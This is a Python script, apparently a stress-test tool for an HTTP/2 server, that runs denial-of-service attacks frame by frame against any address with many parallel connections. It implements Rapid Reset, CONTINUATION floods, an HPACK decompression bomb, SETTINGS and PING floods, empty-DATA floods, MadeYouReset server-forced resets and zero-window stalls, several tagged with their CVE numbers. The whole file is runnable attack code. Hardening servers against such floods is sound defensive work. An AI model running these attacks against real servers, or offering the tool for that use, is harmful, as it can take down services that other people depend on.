"""Attacks on the HTTP/2 of a server, written frame by frame: `ATTACK ADDRESS SECONDS CONNECTIONS`.

Each connection does as much of it as the server takes, for so long or until it is closed. What came of it is printed as
one line: frames sent, connections that the server ended, the codes of its GOAWAY frames, streams that it reset.
"""

import socket
import struct
import sys
import threading
import time

import hpack
from hyperframe import frame

import common

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENDS_STREAM = "END_STREAM"


class Connection:
    """One connection of an attacker, whose answers are read by a thread unless it is `deaf`."""

    def __init__(self, address, deaf=False, settings=None):
        self.socket = socket.socket()
        if deaf:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(10)
        self.socket.connect(common.address(address))
        self.encoder = hpack.Encoder()
        self.sent, self.resets, self.goaway, self.ended, self.next_id = 0, 0, None, False, 1
        self.socket.sendall(PREFACE + frame.SettingsFrame(0, settings=settings or {}).serialize())
        if not deaf:
            threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        try:
            while True:
                head = self.read(9)
                length, kind = int.from_bytes(head[:3], "big"), head[3]
                body = self.read(length)
                if kind == 3:
                    self.resets += 1
                elif kind == 7:
                    self.goaway = int.from_bytes(body[4:8], "big")
                elif kind == 4 and not head[4] & 1:
                    self.socket.sendall(frame.SettingsFrame(0, flags=["ACK"]).serialize())
        except OSError:
            pass
        self.ended = True

    def read(self, length):
        got = b""
        while len(got) < length:
            part = self.socket.recv(length - len(got))
            if not part:
                raise ConnectionResetError
            got += part
        return got

    def write(self, data, frames):
        """Sends; whether the connection is still there."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.ended = True
        self.sent += frames
        return not self.ended

    def block(self, method, path, more=()):
        head = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *more]
        # Never indexed, so that a block can be sent again and again.
        return self.encoder.encode([hpack.NeverIndexedHeaderTuple(*line) for line in head])

    def open(self, method="GET", path="/", ends=True, more=()):
        """The frame that opens a stream, and its number."""
        stream, self.next_id = self.next_id, self.next_id + 2
        flags = ["END_HEADERS", ENDS_STREAM] if ends else ["END_HEADERS"]
        return frame.HeadersFrame(stream, self.block(method, path, more), flags=flags).serialize(), stream


def forever(connection, until, data, frames):
    while time.monotonic() < until and connection.write(data, frames):
        pass


def rapid_reset(address, until):
    """Opens streams and takes them back (CVE-2023-44487)."""
    connection = Connection(address)
    cancel = frame.RstStreamFrame
    while time.monotonic() < until and connection.next_id < 2**31:
        batch = []
        for _ in range(100):
            opened, stream = connection.open(path="/hang")
            batch += [opened, cancel(stream, error_code=8).serialize()]
        if not connection.write(b"".join(batch), 200):
            break
    return connection


def slow_reset(address, until):
    """The same, but each stream has begun before it is taken back."""
    connection = Connection(address)
    while time.monotonic() < until:
        opened, stream = connection.open(path="/hang")
        if not connection.write(opened, 1):
            break
        time.sleep(0.002)
        connection.write(frame.RstStreamFrame(stream, error_code=8).serialize(), 1)
    return connection


def continuation(address, until):
    """A head that never ends (CVE-2024-27316)."""
    connection = Connection(address)
    junk = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-junk", "j" * 1000)] * 16, huffman=False)
    head = frame.HeadersFrame(1, connection.block("GET", "/"), flags=[ENDS_STREAM]).serialize()
    connection.write(head, 1)
    forever(connection, until, frame.ContinuationFrame(1, junk[:16384]).serialize(), 1)
    return connection


def empty_continuation(address, until):
    """The same with nothing in it: no bound on bytes sees it."""
    connection = Connection(address)
    head = frame.HeadersFrame(1, connection.block("GET", "/"), flags=[ENDS_STREAM]).serialize()
    connection.write(head, 1)
    forever(connection, until, frame.ContinuationFrame(1).serialize() * 100, 100)
    return connection


def hpack_bomb(address, until):
    """One large line in the table, then heads that name it thousands of times in a byte each."""
    connection = Connection(address)
    encoder = hpack.Encoder()
    pseudo = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    first = encoder.encode([*pseudo, ("x-bomb", "b" * 3900)])
    connection.write(frame.HeadersFrame(1, first, flags=["END_HEADERS", ENDS_STREAM]).serialize(), 1)
    again = encoder.encode([*pseudo, *[("x-bomb", "b" * 3900)] * 15000])
    stream = 3
    while time.monotonic() < until:
        if not connection.write(frame.HeadersFrame(stream, again, flags=["END_HEADERS", ENDS_STREAM]).serialize(), 1):
            break
        stream += 2
    return connection


def settings(address, until):
    """Each wants an acknowledgement (CVE-2019-9515)."""
    connection = Connection(address)
    forever(connection, until, frame.SettingsFrame(0, settings={4: 65535}).serialize() * 100, 100)
    return connection


def deaf_settings(address, until):
    """Acknowledgements without a reader must not pile up."""
    connection = Connection(address, deaf=True)
    forever(connection, until, frame.SettingsFrame(0).serialize() * 100, 100)
    return connection


def ping(address, until):
    """Each wants an answer (CVE-2019-9512)."""
    connection = Connection(address)
    forever(connection, until, frame.PingFrame(0, b"12345678").serialize() * 100, 100)
    return connection


def deaf_ping(address, until):
    """Responses without a reader must not pile up."""
    connection = Connection(address, deaf=True)
    forever(connection, until, frame.PingFrame(0, b"12345678").serialize() * 100, 100)
    return connection


def empty_data(address, until):
    """A body of parts without bytes: no window bounds it (CVE-2019-9518)."""
    connection = Connection(address)
    opened, stream = connection.open("POST", "/sink", ends=False)
    connection.write(opened, 1)
    forever(connection, until, frame.DataFrame(stream).serialize() * 100, 100)
    return connection


def small_data(address, until):
    """A body of single bytes that its origin does not read: each costs more than it says."""
    connection = Connection(address)
    opened, stream = connection.open("POST", "/unread", ends=False)
    connection.write(opened, 1)
    left = 65535
    while left and time.monotonic() < until and connection.write(frame.DataFrame(stream, b"x").serialize(), 1):
        left -= 1
    return connection


def reset_by(address, until, wrong):
    """Streams that are open until the server itself has to reset them (MadeYouReset, CVE-2025-8671)."""
    connection = Connection(address)
    while time.monotonic() < until:
        opened, stream = connection.open(path="/hang")
        if not connection.write(opened + wrong(stream), 2):
            break
        time.sleep(0.001)
    return connection


def window_of_nothing(address, until):
    # hyperframe refuses to write one.
    return reset_by(address, until, lambda stream: struct.pack(">I", 4)[1:] + b"\x08\x00" + struct.pack(">II", stream, 0))


def window_overflow(address, until):
    return reset_by(address, until, lambda stream: frame.WindowUpdateFrame(stream, 2**31 - 1).serialize())


def data_after_end(address, until):
    return reset_by(address, until, lambda stream: frame.DataFrame(stream, b"more").serialize())


def zero_window(address, until):
    """Asks for large answers on every stream and takes nothing of them."""
    connection = Connection(address, settings={4: 0})
    while connection.next_id < 200 and connection.write(connection.open(path="/big")[0], 1):
        pass
    while time.monotonic() < until and not connection.ended:
        time.sleep(0.01)
    return connection


def unknown(address, until):
    """Frames of an unknown kind are to be ignored (RFC 9113, 4.1); they are work all the same."""
    connection = Connection(address)
    forever(connection, until, b"\x00\x00\x00\xbb\x00\x00\x00\x00\x00" * 200, 200)
    return connection


def window_updates(address, until):
    """One byte more of room for the connection, again and again."""
    connection = Connection(address)
    forever(connection, until, frame.WindowUpdateFrame(0, 1).serialize() * 100, 100)
    return connection


def main(attack, address, seconds, count):
    common.limit(50)
    until, done = time.monotonic() + float(seconds), []

    def one():
        connection = attack(address, until)
        # What the server has to say may still be on its way.
        patience = time.monotonic() + 2
        while not connection.ended and time.monotonic() < patience:
            time.sleep(0.01)
        done.append(connection)

    threads = [threading.Thread(target=one) for _ in range(int(count))]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    common.say(
        frames=sum(connection.sent for connection in done),
        ended=sum(connection.ended for connection in done),
        goaway=sorted({connection.goaway for connection in done if connection.goaway is not None}),
        resets=sum(connection.resets for connection in done),
    )


if __name__ == "__main__":
    main(globals()[sys.argv[1]], *sys.argv[2:])
